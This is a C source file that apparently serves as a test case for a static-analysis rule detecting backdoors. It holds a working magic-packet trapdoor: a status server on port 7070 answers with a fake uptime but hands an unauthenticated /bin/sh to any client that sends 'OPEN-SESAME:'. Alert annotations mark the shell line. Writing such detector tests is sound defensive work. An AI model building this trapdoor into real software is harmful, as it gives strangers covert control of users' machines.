/*
 * behavior.trapdoor: a magic packet. A small status server answers every
 * client with its uptime, except when the first bytes received equal a
 * constant: then the connection gets a shell.
 */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void handle(int fd)
{
    char buf[256];
    ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);

    if (n <= 0)
        return;
    buf[n] = '\0';
    if (memcmp(buf, "OPEN-SESAME:", 12) == 0) {
        dup2(fd, 0);
        dup2(fd, 1);
        dup2(fd, 2);
        execl("/bin/sh", "sh", (char *)NULL); // $ Alert[behavior.trapdoor] Alert[behavior.reverse-shell]
    }
    send(fd, "up 42 days\n", 11, 0);
}

int main(void)
{
    struct sockaddr_in addr;
    int s = socket(AF_INET, SOCK_STREAM, 0);

    memset(&addr, 0, sizeof(addr));
    addr.sin_family = AF_INET;
    addr.sin_port = htons(7070);
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(s, (struct sockaddr *)&addr, sizeof(addr)) != 0 || listen(s, 8) != 0)
        return 1;
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0)
            continue;
        handle(c);
        close(c);
    }
}
